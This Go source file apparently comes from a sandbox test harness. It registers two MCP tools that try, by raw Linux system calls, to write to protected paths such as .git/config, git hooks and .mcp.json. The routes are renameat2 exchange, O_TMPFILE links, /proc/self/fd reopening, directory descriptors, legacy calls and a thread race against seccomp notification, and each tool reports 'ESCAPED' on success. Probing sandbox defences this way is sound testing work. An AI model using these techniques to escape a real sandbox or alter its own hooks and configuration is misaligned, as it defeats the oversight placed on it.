//go:build linux

package probe

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"sync/atomic"
	"unsafe"

	"github.com/mark3labs/mcp-go/mcp"
	"golang.org/x/sys/unix"
)

// Attacks on the protected paths (.git/config, hooks, .mcp.json …): each
// step is one raw system call, so a test names exactly the route it tries
// (renameat2, linkat with AT_EMPTY_PATH, O_TMPFILE, a dirfd, the legacy
// amd64 calls …), and a racing thread flips a path buffer under the
// check. The tool fails at the first refused step; when every step
// worked, it reports "ESCAPED:".
func init() {
	register(mcp.NewTool("fs_ops",
		mcp.WithDescription(`Run filesystem system calls in order and stop at the first failure. ops is a list of steps, each a list of strings: [op, args...]. Ops: mkdir P; write P CONTENT (openat O_CREAT|O_WRONLY|O_TRUNC, mode 0755); rename A B; exchange A B (renameat2 RENAME_EXCHANGE); link A B; symlink TARGET P; unlink P; rmdir P; chmod P OCTAL; fchmod_ro P OCTAL (fchmod on an O_RDONLY descriptor); truncate P; mknod P; tmpfile_link DIR P CONTENT (O_TMPFILE, then linkat AT_EMPTY_PATH, else through /proc/self/fd); dirfd_write DIR REL CONTENT (openat relative to an O_PATH directory descriptor); reopen_write P CONTENT (O_RDONLY, then open /proc/self/fd/N for writing); openat2_write P CONTENT; legacy_open P CONTENT, legacy_creat P CONTENT, legacy_mkdir P, legacy_rename A B, legacy_link A B, legacy_symlink T P, legacy_chmod P OCTAL, legacy_unlink P (amd64 only).`),
		mcp.WithArray("ops", mcp.Required(), mcp.Description("steps"), mcp.Items(map[string]any{"type": "array", "items": map[string]any{"type": "string"}}))),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			raw, _ := json.Marshal(req.GetArguments()["ops"])
			var ops [][]string
			if err := json.Unmarshal(raw, &ops); err != nil {
				return mcp.NewToolResultError("bad ops: " + err.Error()), nil
			}
			for i, op := range ops {
				if err := fsOp(op); err != nil {
					return mcp.NewToolResultError(fmt.Sprintf("step %d %v: %v", i+1, op, err)), nil
				}
			}
			return mcp.NewToolResultText(fmt.Sprintf("ESCAPED: all %d steps worked", len(ops))), nil
		})
	register(mcp.NewTool("race_create",
		mcp.WithDescription("Create a file through a path buffer that another thread keeps flipping between a harmless name and a protected one (the time-of-check race of seccomp notification). ESCAPED when the protected file exists afterwards."),
		mcp.WithString("protected", mcp.Required(), mcp.Description("protected path to try to create")),
		mcp.WithString("decoy", mcp.Required(), mcp.Description("harmless path of the same directory depth")),
		mcp.WithNumber("tries", mcp.Description("attempts (default 20000)"))),
		func(ctx context.Context, req mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return raceCreate(req.GetString("protected", ""), req.GetString("decoy", ""), req.GetInt("tries", 20000)), nil
		})
}

func arg(op []string, i int) string {
	if i < len(op) {
		return op[i]
	}
	return ""
}

func mode(s string) uint32 {
	m, err := strconv.ParseUint(s, 8, 32)
	if err != nil {
		return 0o755
	}
	return uint32(m)
}

func writeAll(fd int, content string) error {
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte(content)); err != nil {
		return err
	}
	return nil
}

func fsOp(op []string) error {
	a, b, c := arg(op, 1), arg(op, 2), arg(op, 3)
	switch op[0] {
	case "mkdir":
		return unix.Mkdirat(unix.AT_FDCWD, a, 0o755)
	case "write":
		fd, err := unix.Openat(unix.AT_FDCWD, a, unix.O_CREAT|unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0o755)
		if err != nil {
			return err
		}
		return writeAll(fd, b)
	case "rename":
		return unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, 0)
	case "exchange":
		return unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
	case "link":
		return unix.Linkat(unix.AT_FDCWD, a, unix.AT_FDCWD, b, 0)
	case "symlink":
		return unix.Symlinkat(a, unix.AT_FDCWD, b)
	case "unlink":
		return unix.Unlinkat(unix.AT_FDCWD, a, 0)
	case "rmdir":
		return unix.Unlinkat(unix.AT_FDCWD, a, unix.AT_REMOVEDIR)
	case "chmod":
		return unix.Fchmodat(unix.AT_FDCWD, a, mode(b), 0)
	case "fchmod_ro":
		fd, err := unix.Openat(unix.AT_FDCWD, a, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		return unix.Fchmod(fd, mode(b))
	case "truncate":
		return unix.Truncate(a, 0)
	case "mknod":
		return unix.Mknodat(unix.AT_FDCWD, a, unix.S_IFREG|0o755, 0)
	case "tmpfile_link":
		fd, err := unix.Openat(unix.AT_FDCWD, a, unix.O_TMPFILE|unix.O_RDWR|unix.O_CLOEXEC, 0o755)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		if _, err := unix.Write(fd, []byte(c)); err != nil {
			return err
		}
		if err := unix.Linkat(fd, "", unix.AT_FDCWD, b, unix.AT_EMPTY_PATH); err == nil {
			return nil
		}
		return unix.Linkat(unix.AT_FDCWD, "/proc/self/fd/"+strconv.Itoa(fd), unix.AT_FDCWD, b, unix.AT_SYMLINK_FOLLOW)
	case "dirfd_write":
		dir, err := unix.Open(a, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(dir)
		fd, err := unix.Openat(dir, b, unix.O_CREAT|unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0o755)
		if err != nil {
			return err
		}
		return writeAll(fd, c)
	case "reopen_write":
		ro, err := unix.Open(a, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		defer unix.Close(ro)
		fd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(ro), unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0)
		if err != nil {
			return err
		}
		return writeAll(fd, b)
	case "openat2_write":
		fd, err := unix.Openat2(unix.AT_FDCWD, a, &unix.OpenHow{Flags: unix.O_CREAT | unix.O_WRONLY | unix.O_TRUNC | unix.O_CLOEXEC, Mode: 0o755})
		if err != nil {
			return err
		}
		return writeAll(fd, b)
	}
	if strings.HasPrefix(op[0], "legacy_") {
		return legacyOp(op[0], a, b)
	}
	return fmt.Errorf("unknown op %q", op[0])
}

// raceCreate runs the classic attack on seccomp notification: the path a
// supervisor checked is not necessarily the path the kernel then uses,
// because another thread can rewrite the buffer in between.
func raceCreate(protected, decoy string, tries int) *mcp.CallToolResult {
	n := max(len(protected), len(decoy)) + 1
	buf := make([]byte, n)
	a, b := append([]byte(decoy), 0), append([]byte(protected), 0)
	copy(buf, a)
	var stop atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread()
		for i := 0; !stop.Load(); i++ {
			if i%2 == 0 {
				copy(buf, b)
			} else {
				copy(buf, a)
			}
		}
	}()
	created := 0
	for i := 0; i < tries; i++ {
		p := unsafe.Pointer(&buf[0])
		fd, _, errno := unix.Syscall6(unix.SYS_OPENAT, uintptr(atFDCWD), uintptr(p), uintptr(unix.O_CREAT|unix.O_WRONLY|unix.O_CLOEXEC), 0o755, 0, 0)
		if errno == 0 {
			created++
			unix.Write(int(fd), []byte("#!/bin/sh\n"))
			unix.Close(int(fd))
			unix.Unlink(decoy)
		}
		if _, err := os.Lstat(protected); err == nil {
			stop.Store(true)
			<-done
			return mcp.NewToolResultText(fmt.Sprintf("ESCAPED: %s created after %d tries", protected, i+1))
		}
	}
	stop.Store(true)
	<-done
	runtime.KeepAlive(buf)
	return mcp.NewToolResultError(fmt.Sprintf("%s never created in %d tries (%d creations of the decoy)", protected, tries, created))
}

var atFDCWD int = unix.AT_FDCWD // a variable: the constant -100 does not convert to uintptr
